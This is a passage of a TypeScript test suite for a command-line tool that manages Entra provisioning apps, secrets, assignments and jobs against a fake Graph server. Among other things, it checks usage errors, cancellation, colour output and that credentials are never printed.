    expect(JSON.parse(runs[3]!.stderr)).toMatchObject({ error: { kind: 'usage' } });
    expect(fake.stats.requests).toBe(0);
  });

  it('sends a key this version does not know only with --allow-unknown-keys, never naming it', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const created = await cli([...CREATE_CONTOSO, '--no-start'], { fake });
    expect(created.code).toBe(0);
    // Refused, with the closest known name, and nothing sent.
    const before = fake.stats.requests;
    const typo = await cli(['--fake', 'secrets', 'set', 'AWS Contoso', 'SecretTokn=abc1234'], {
      fake,
    });
    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain('did you mean SecretToken?');
    expect(typo.stderr).not.toContain('SecretTokn');
    expect(fake.stats.requests).toBe(before);
    // Allowed: Graph decides (the fake, like Graph, refuses it), and the key is still not shown.
    const allowed = await cli(
      ['--fake', 'secrets', 'set', 'AWS Contoso', 'SecretTokn=abc1234', '--allow-unknown-keys'],
      { fake },
    );
    expect(allowed.code).toBe(1);
    expect(allowed.stdout + allowed.stderr).not.toContain('SecretTokn');
  });

  it('refuses a wait longer than a timer can hold instead of polling without pause', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const follow = await cli(['--fake', 'logs', '--follow', '--interval', '30d'], { fake });
    expect(follow.code).toBe(2);
    expect(follow.stderr).toContain('--interval must be at most 24d');
    const wait = await cli(['--fake', 'jobs', 'wait', 'AWS Contoso', '--timeout', '25d'], { fake });
    expect(wait.code).toBe(2);
    expect(wait.stderr).toContain('--timeout must be at most 24d');
    // A range back from now is not a wait: 30 days back is fine.
    const logs = await cli(['--fake', 'logs', '--since', '30d'], { fake });
    expect(logs.code).toBe(0);
    expect(fake.stats.requests).toBe(1);
  });

  it('answers a command group without its subcommand with a JSON usage error under --json', async () => {
    const run = await cli(['--json', 'jobs']);
    expect(run.code).toBe(2);
    expect(JSON.parse(run.stderr)).toEqual({
      error: { kind: 'usage', message: 'missing subcommand: see --help' },
    });
  });

  it('refuses a results file it could not write before configuring anything', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const dir = tempDir();
    const manifest = join(dir, 'apps.json');
    writeFileSync(manifest, JSON.stringify({ apps: [{ displayName: 'A1', template: AWS }] }));
    const run = await cli(
      ['--fake', 'apply', manifest, '--results', join(dir, 'missing', 'r.json')],
      { fake },
    );
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('cannot write the results file');
    expect(fake.stats.requests).toBe(0);
  });

  it('stops following cleanly when Ctrl-C comes in the middle of a request', async () => {
    // Every answer takes ten minutes: the second request (the first poll) is surely in flight
    // when Ctrl-C comes, and the run ends without waiting for it.
    const fake = createFakeGraph({ latencyMs: 0 });
    const slow = createFakeGraph({ latencyMs: 600_000 });
    const controller = new AbortController();
    let answered = 0;
    const running = cli(['--fake', '--json', 'logs', '--follow', '--interval', '2s'], {
      // The first list is answered at once; the poll after it hangs in the slow fake.
      fake: new Proxy(fake, {
        get: (target, key) =>
          key === 'fetch'
            ? (input: string, init?: RequestInit) =>
                (answered += 1) === 1 ? target.fetch(input, init) : slow.fetch(input, init)
            : (Reflect.get(target, key) as unknown),
      }),
      signal: controller.signal,
    });
    await until(() => slow.stats.received === 1);
    controller.abort();
    const run = await running;
    expect(run.code).toBe(0);
    expect(run.stderr).toBe('');
    await until(() => slow.stats.abandoned === 1);
    expect(slow.stats.requests).toBe(0);
  });

  it('colours only a terminal, and never with NO_COLOR or --no-color', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const argv = ['--fake', 'templates', 'list', '--top', '1'];
    expect((await cli(argv, { fake, tty: true })).stdout).toMatch(ANSI);
    expect((await cli(argv, { fake })).stdout).not.toMatch(ANSI);
    expect((await cli(argv, { fake, tty: true, env: { NO_COLOR: '1' } })).stdout).not.toMatch(ANSI);
    expect((await cli([...argv, '--no-color'], { fake, tty: true })).stdout).not.toMatch(ANSI);
  });

  it('serves the fake over HTTP until the signal fires', async () => {
    const controller = new AbortController();
    const serving = cli(['--json', 'fake', 'serve'], {
      signal: controller.signal,
      onStdout: () => {
        controller.abort();
      },
    });
    const run = await serving;
    expect(run.code).toBe(0);
    expect((JSON.parse(run.stdout) as { url: string }).url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
  });

  it('assigns users and groups: add by UPN or group name (twice: one assignment), list, remove', async () => {
    const fake = await configured();
    const alice = fake.addUser({
      displayName: 'Alice Vance',
      userPrincipalName: 'alice@contoso.com',
    });
    const sales = fake.addGroup({ displayName: 'Sales Pilot', members: [alice.id] });
    const add = await cli(
      ['--fake', 'assignments', 'add', 'AWS Contoso', '--user', 'alice@contoso.com'],
      { fake },
    );
    expect(add.code).toBe(0);
    expect(add.stdout).toContain('assigned User Alice Vance to AWS Contoso');
    const again = await cli(
      ['--fake', '--json', 'assignments', 'add', 'AWS Contoso', '--user', alice.id],
      { fake },
    );
    expect(again.code).toBe(0);
    await cli(['--fake', 'assignments', 'add', 'AWS Contoso', '--group', 'Sales Pilot'], { fake });
    const list = await cli(['--fake', '--json', 'assignments', 'list', 'AWS Contoso'], { fake });
    const rows = JSON.parse(list.stdout) as { id: string; principalId: string }[];
    const mine = rows.filter((r) => r.principalId === alice.id || r.principalId === sales.id);
    expect(mine).toHaveLength(2);
    expect(mine.map((r) => r.id)).toContain((JSON.parse(again.stdout) as { id: string }).id);
    const id = mine[0]!.id;
    expect(
      (await cli(['--fake', 'assignments', 'remove', 'AWS Contoso', id], { fake })).stdout,
    ).toContain(`removed assignment ${id}`);
    const gone = await cli(['--fake', 'assignments', 'remove', 'AWS Contoso', id], { fake });
    expect(gone.code).toBe(0);
    expect(gone.stdout).toContain('already removed');
    const both = await cli(
      ['--fake', 'assignments', 'add', 'AWS Contoso', '--user', 'a', '--group', 'b'],
      { fake },
    );
    expect(both.code).toBe(2);
  });

  it('rotates credentials: tested with the target, saved only when accepted, never printed', async () => {
    const fake = await configured();
    const rotated = await cli(
      // AWS's two keys are masked by Graph: a rotation gives both (the PUT carries every key).
      [
        '--fake',
        'secrets',
        'rotate',
        'AWS Contoso',
        '--from-env',
        'ClientSecret=CLIENT',
        '--from-env',
        'SecretToken=TOKEN_VAR',
      ],
      { fake, env: { TOKEN_VAR: SECRET, CLIENT: 'client-secret-2' } },
    );
    expect(rotated.code).toBe(0);
    expect(rotated.stdout).toContain('rotated ClientSecret, SecretToken on AWS Contoso');
    expect(rotated.stdout + rotated.stderr).not.toContain(SECRET);
    const writes = fake.state.servicePrincipals[0]!.secretWrites;
    // The fake's targets refuse values starting with "bad": nothing is saved.
    const refused = await cli(
      [
        '--fake',
        '--json',
        'secrets',
        'rotate',
        'AWS Contoso',
        '--from-env',
        'ClientSecret=C',
        '--from-env',
        'SecretToken=T',
      ],
      { fake, env: { C: 'client-secret-3', T: 'bad-token-value-123' } },
    );
    expect(refused.code).toBe(1);
    expect(refused.stdout + refused.stderr).not.toContain('bad-token-value-123');
    expect(fake.state.servicePrincipals[0]!.secretWrites).toBe(writes);
  });
});

describe('the built executable', () => {
  const executable = () => builtExecutable();

  it('runs against the fake served over HTTP, with a token from the environment that it never prints', async () => {
    const fake = createFakeGraph({ latencyMs: 0 });
    const server = await fake.listen();
    try {
      const bin = await executable();
      const run = promisify(execFile);
      const { stdout, stderr } = await run(
        process.execPath,
        [
          bin,
          '--base-url',
          server.url,
          '--json',
          'apps',
          'create',
          '--template',
          AWS,
          '--name',
          'AWS Binary',
          '--no-start',
        ],
        { env: { ...process.env, ENTRA_PROVISIONING_TOKEN: TOKEN, NO_COLOR: '1' } },
      );
      expect(JSON.parse(stdout)).toMatchObject({ created: { application: true }, started: false });
      expect(stdout + stderr).not.toContain(TOKEN);
      expect(fake.state.applications.map((a) => a.displayName)).toEqual(['AWS Binary']);
      // apps delete: without --yes, exit 2 and nothing deleted; with it, gone.
      const env = { ...process.env, ENTRA_PROVISIONING_TOKEN: TOKEN, NO_COLOR: '1' };
      const dry = await run(
        process.execPath,
        [bin, '--base-url', server.url, 'apps', 'delete', 'AWS Binary'],
        { env },
      ).catch((error: unknown) => error as { code: number; stdout: string });
      expect(dry).toMatchObject({ code: 2 });
      expect(dry.stdout).toContain("would delete application 'AWS Binary'");
      expect(fake.state.applications).toHaveLength(1);
      const deleted = await run(
        process.execPath,
        [bin, '--base-url', server.url, '--json', 'apps', 'delete', 'AWS Binary', '--yes'],
        { env },
      );
      expect(JSON.parse(deleted.stdout)).toMatchObject({ deleted: true });
      expect(fake.state.applications).toEqual([]);
      const failed = await run(
        process.execPath,
        [bin, '--base-url', server.url, 'jobs', 'show', 'nobody'],
        {
          env: { ...process.env, ENTRA_PROVISIONING_TOKEN: TOKEN },
        },
      ).catch((error: unknown) => error as { code: number; stderr: string });
      expect(failed).toMatchObject({ code: 1 });
    } finally {
      await server.close();
    }
  });
});
